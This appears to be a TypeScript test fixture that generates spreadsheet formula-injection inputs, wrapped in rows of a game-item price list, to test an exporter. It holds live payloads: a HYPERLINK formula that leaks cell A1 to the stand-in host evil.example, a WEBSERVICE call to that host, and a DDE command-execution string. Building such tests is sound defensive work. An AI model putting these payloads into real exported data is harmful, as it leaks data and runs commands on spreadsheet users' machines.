/** Names that a spreadsheet would act upon if it were let, in every way of hiding it that is known. */
const starts = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const before = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\u00a0',
  '\u200b',
  '\ufeff',
  "'",
  "''",
  '"',
  '""',
  'a;',
  'a,',
  'a\t',
  'a\n',
  'a;"',
  'a";',
];
const bodies = [
  '1+1',
  'SUM(1,2)',
  'HYPERLINK("https://evil.example/?leak="&A1,"click")',
  "cmd|'/C calc'!A0",
  'WEBSERVICE("https://evil.example")',
  '1+1;=2+2',
];
const others = [
  '<f>1+1</f>',
  '&lt;f&gt;1',
  '_x003D_1+1',
  ']]><f>1</f>',
  '{=1+1}',
  '1E5',
  '0x10',
  '2026-11-21',
  'TRUE',
  '#REF!',
  '★ Karambit',
];

export const hostileNames: readonly string[] = [
  ...before.flatMap((hidden) => starts.flatMap((start) => bodies.map((body) => `${hidden}${start}${body}`))),
  ...others,
];

/** A list row (section 2.2) around each of them. */
export const hostileRows = hostileNames.map((name, index) => ({
  id: index + 1,
  appid: 730,
  image: `https://images.example/${index + 1}.png`,
  price: index % 3 === 0 ? name : `${index}.40`,
  name,
  market_hash_name: name,
  platform_price: '14.10',
}));
